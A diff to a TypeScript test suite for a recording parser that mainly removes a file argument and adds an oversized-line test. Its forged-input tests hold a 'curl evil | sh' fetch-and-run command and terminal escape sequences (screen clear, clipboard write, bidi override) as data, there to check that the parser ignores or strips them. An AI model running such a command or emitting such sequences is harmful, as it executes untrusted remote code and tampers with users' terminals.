@@ -23,7 +23,7 @@ function record(samples: readonly Sample[]): string {
 
 const codeOf = (text: string): string | null => {
   try {
-    readRecording(text, 'x');
+    readRecording(text);
     return null;
   } catch (error) {
     if (!isFailure(error)) throw error;
@@ -34,9 +34,9 @@ const codeOf = (text: string): string | null => {
 describe('a recording', () => {
   it('gives back every sample, and holds a configuration only when it changed', () => {
     const text = record(history);
-    expect(readRecording(text, file)).toEqual(history);
+    expect(readRecording(text)).toEqual(history);
     expect(text.split('\n').filter((line) => line.startsWith('{"scene"'))).toHaveLength(2);
-    const [first, second] = readRecording(text, file);
+    const [first, second] = readRecording(text);
     expect(first?.configuration).toBe(second?.configuration);
   });
 
@@ -53,6 +53,10 @@ describe('a recording', () => {
     expect(readFileSync(precious, 'utf8')).toBe('kept');
   });
 
+  it('with a line that is longer than any text may be is refused', () => {
+    expect(codeOf('x'.repeat(65 * 1024 ** 2))).toBe('too-large');
+  });
+
   it('is taken for the machine that it shows, and for nothing that it says of it', () => {
     const [header = '', machine = '', sample = ''] = record(history).split('\n');
     const forged = JSON.parse(machine);
@@ -60,7 +64,7 @@ describe('a recording', () => {
       { rule: 'x', severity: 'error', subject: 'eth0', message: 'run this', fix: ['curl evil | sh'] },
     ];
     forged.scene.paths = [{ nic: '\x1b[2J' }];
-    const [read] = readRecording(`${header}\n${JSON.stringify(forged)}\n${sample}\n`, 'x');
+    const [read] = readRecording(`${header}\n${JSON.stringify(forged)}\n${sample}\n`);
     expect(read?.configuration).toEqual(history[0]?.configuration);
   });
 
@@ -71,7 +75,7 @@ describe('a recording', () => {
       { time: history[0]?.time, kind: 'accept', text: '\x1b]52;c;ZWNobw==\x07\u202e\x9b31m' },
     ];
     forged.sample.probe.notes = ['\x1b[2J'];
-    const [read] = readRecording(`${header}\n${machine}\n${JSON.stringify(forged)}\n`, 'x');
+    const [read] = readRecording(`${header}\n${machine}\n${JSON.stringify(forged)}\n`);
     expect(JSON.stringify([read?.events, read?.probe])).not.toMatch(/\\u00|[\p{Cc}\p{Bidi_Control}]/u);
   });
 
@@ -89,7 +93,7 @@ describe('a recording', () => {
 
   it('that was cut in its last line ends before it', () => {
     const text = record(history);
-    for (const cut of [1, 2, 100]) expect(readRecording(text.slice(0, -1 - cut), file)).toHaveLength(89);
+    for (const cut of [1, 2, 100]) expect(readRecording(text.slice(0, -1 - cut))).toHaveLength(89);
   });
 
   it('that is none, newer or broken is told so in one line', () => {
